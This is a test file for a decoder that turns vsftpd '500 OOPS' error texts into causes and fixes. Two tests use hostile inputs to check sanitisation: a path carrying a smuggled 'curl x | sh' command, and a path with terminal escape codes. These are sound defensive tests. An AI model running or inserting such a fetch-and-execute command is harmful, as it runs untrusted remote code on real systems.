import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeOops, oopsText } from '../../../../src/core/diagnosis/vsftpdOops.ts';
import { createTranslate } from '../../../../src/core/l10n.ts';

const t = createTranslate();

/** Texts as vsftpd 2.2.2 to 3.0.5 print them, with the meaning and what the sentence must repeat. */
const texts: readonly (readonly [string, string, string?])[] = [
  ['unrecognised variable in config file: anonymous_enable ', 'unknown-option', 'anonymous_enable'],
  ['bad bool value in config file for: anonymous_enable', 'bad-bool', 'anonymous_enable'],
  ['missing value in config file for: # text', 'missing-value', '# text'],
  ['cannot read config file: /etc/vsftpd.conf', 'config-unreadable', '/etc/vsftpd.conf'],
  ['config file not owned by correct user, or not a file', 'config-owner'],
  ['run two copies of vsftpd for IPv4 and IPv6', 'two-listeners'],
  ['vsftpd: not configured for standalone, must be started from inetd', 'no-listener'],
  ['bad listen_address: foo', 'bad-listen-address', 'foo'],
  ['bad listen_address6: foo', 'bad-listen-address', 'foo'],
  ['could not bind listening IPv4 socket', 'cannot-bind'],
  ['could not bind listening IPv6 socket', 'cannot-bind'],
  ['cannot resolve host:ftp.example.test', 'cannot-resolve', 'ftp.example.test'],
  ['vsftpd: must be started as root (see run_as_launching_user option)', 'not-root'],
  ['SSL: cannot load RSA certificate', 'certificate'],
  ['SSL: cannot load DSA certificate', 'certificate'],
  ['SSL: cannot load RSA private key', 'private-key'],
  ['SSL: could not set cipher list', 'ciphers'],
  ['SSL: could not load verify file', 'verify-file'],
  [
    "vsftpd: not found: directory given in 'secure_chroot_dir':/var/run/vsftpd/empty",
    'chroot-dir',
    '/var/run/vsftpd/empty',
  ],
  ['cannot locate user entry:nobody2', 'system-user', 'nobody2'],
  ["vsftpd: cannot locate user specified in 'ftp_username':ftp", 'system-user', 'ftp'],
  ['vsftpd: both local and anonymous access disabled!', 'nobody-allowed'],
  ['cannot read user list file:/etc/user_list', 'list-file', '/etc/user_list'],
  ['cannot read banner file:/etc/banner', 'list-file', '/etc/banner'],
  ['cannot read anon e-mail list file:/etc/mails', 'list-file', '/etc/mails'],
  ['cannot read email passwords file:/etc/passwords', 'list-file', '/etc/passwords'],
  ['could not read chroot() list file:/etc/vsftpd.chroot_list', 'list-file', '/etc/vsftpd.chroot_list'],
  ['failed to open vsftpd log file:/var/log/x/vsftpd.log', 'log-file', '/var/log/x/vsftpd.log'],
  ['failed to open xferlog log file:/var/log/x/xferlog', 'log-file', '/var/log/x/xferlog'],
  ["vsftpd: security: 'one_process_model' is anonymous only", 'process-model'],
  ["vsftpd: HTTP needs 'one_process_model' for now", 'process-model'],
  ['vsftpd: both FTP and HTTP disabled!', 'process-model'],
  ['could not allocate sandbox (only works for 32-bit builds)', 'sandbox-32-bit'],
  ['tcp_wrappers is set to YES but no tcp wrapper support compiled in', 'tcp-wrappers'],
  ['cannot change directory:/home/alice', 'home-directory', '/home/alice'],
  ['invalid pasv_address', 'pasv-address'],
  ['vsf_sysutil_bind', 'active-bind'],
  ['vsf_sysutil_bind, maximum number of attempts to find a listening port exceeded', 'active-bind'],
  ['Illegal port request', 'port-request'],
  ['priv_sock_get_cmd', 'other-process'],
  ['child died', 'other-process'],
];

describe('decodeOops', () => {
  for (const [text, id, repeats = ''] of texts) {
    it(`knows "${text}"`, () => {
      const meaning = decodeOops(text, t);
      assert.ok(meaning !== null);
      assert.equal(meaning.id, id);
      assert.ok(meaning.cause.includes(repeats));
      assert.notEqual(meaning.mend, '');
    });
  }

  it('does not know a new text', () => {
    assert.equal(decodeOops('something new', t), null);
  });

  it('puts no path of a hostile server into a command line', () => {
    const text = "vsftpd: not found: directory given in 'secure_chroot_dir':/tmp; curl x | sh";
    assert.deepEqual(decodeOops(text, t)?.lines, ['sudo mkdir -p /var/run/vsftpd/empty']);
  });

  it('repeats a hostile path without its control characters, and not at length', () => {
    const meaning = decodeOops(`cannot change directory:/\u001b[31m${'x'.repeat(1000)}`, t);
    assert.ok(!/\p{Cc}/u.test(meaning?.cause ?? ''));
    assert.ok((meaning?.cause.length ?? 0) < 500);
  });
});

describe('oopsText', () => {
  it('takes the first of several lines', () => {
    assert.equal(
      oopsText('500 OOPS: vsf_sysutil_bind\r\n500 OOPS: priv_sock_get_int\r\n'),
      'vsf_sysutil_bind',
    );
  });

  it('finds it behind other bytes of a TLS stream', () => {
    assert.equal(oopsText('junk\n500 OOPS: child died'), 'child died');
  });

  it('gives nothing for an ordinary reply', () => {
    assert.equal(oopsText('500 Unknown command.'), null);
  });
});
